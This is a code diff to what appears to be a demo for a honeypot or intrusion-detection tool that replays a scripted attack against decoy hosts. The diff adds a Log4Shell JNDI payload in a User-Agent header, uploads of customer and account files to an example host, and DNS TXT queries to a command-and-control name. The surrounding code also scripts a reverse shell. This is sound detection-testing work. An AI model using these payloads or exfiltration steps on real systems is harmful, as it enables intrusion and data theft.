@@ -6,7 +6,7 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 
 from honeyweir.demo.client import Client
-from honeyweir.demo.pages import CUSTOMERS
+from honeyweir.demo.pages import ACCOUNTS, CUSTOMERS
 
 FINANCE, BUILD, HR = "finance-ws-07", "build-srv-02", "hr-laptop-03"
 
@@ -21,10 +21,13 @@ NAMES = (
     "update.example.com",
     "chat.example.com",
     "deb.example.org",
+    "crm.example.org",
     "files.example.net",
     C2,
 )
 SHELL_PORT = 4444
+
+_NAME_SHOWN = 40  # characters
 
 _BROWSER = {
     "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
@@ -39,6 +42,8 @@ _EMPIRE = {
 }
 """What PowerShell Empire's HTTP listener has its agents send by default."""
 
+
+_LOG4SHELL = {"User-Agent": f"${{jndi:ldap://{C2}/a}}"}
 
 _SHELL = (
     b"/bin/sh: 0: can't access tty; job control turned off\n",
@@ -109,10 +114,13 @@ def _intrusion() -> Iterator[Act]:
         f"opens a shell to {C2}:{SHELL_PORT}",
         lambda client: client.lines(C2, SHELL_PORT, _SHELL),
     )
-    yield _post(14.4, FINANCE, "https://files.example.net/upload?name=q1.csv", _BROWSER, CUSTOMERS)
+    upload = "https://files.example.net/upload?name="
+    yield _post(14.4, FINANCE, f"{upload}customers.csv", _BROWSER, CUSTOMERS)
+    yield _post(15.5, FINANCE, f"{upload}accounts.csv", _BROWSER, ACCOUNTS)
+    yield _get(16.4, BUILD, "http://crm.example.org/login", _LOG4SHELL)
     for number in range(4):
         label = bytes((17 * number + 29 * i) % 256 for i in range(28)).hex()
-        yield _query(16.0 + 0.7 * number, BUILD, f"{label}.{C2}", "TXT")
+        yield _query(16.9 + 0.6 * number, BUILD, f"{label}.{C2}", "TXT")
 
 
 def _get(at: float, decoy: str, url: str, headers: dict[str, str]) -> Act:
@@ -125,5 +133,6 @@ def _post(at: float, decoy: str, url: str, headers: dict[str, str], body: bytes)
 
 
 def _query(at: float, decoy: str, name: str, type_: str = "A") -> Act:
-    what = f"resolves {name[:40]} {type_}"
+    shown = name if len(name) < _NAME_SHOWN else f"{name[:8]}...{name[-len(C2) - 1 :]}"
+    what = f"resolves {shown} {type_}"
     return Act(at, decoy, what, lambda client: client.resolve(name, type_))
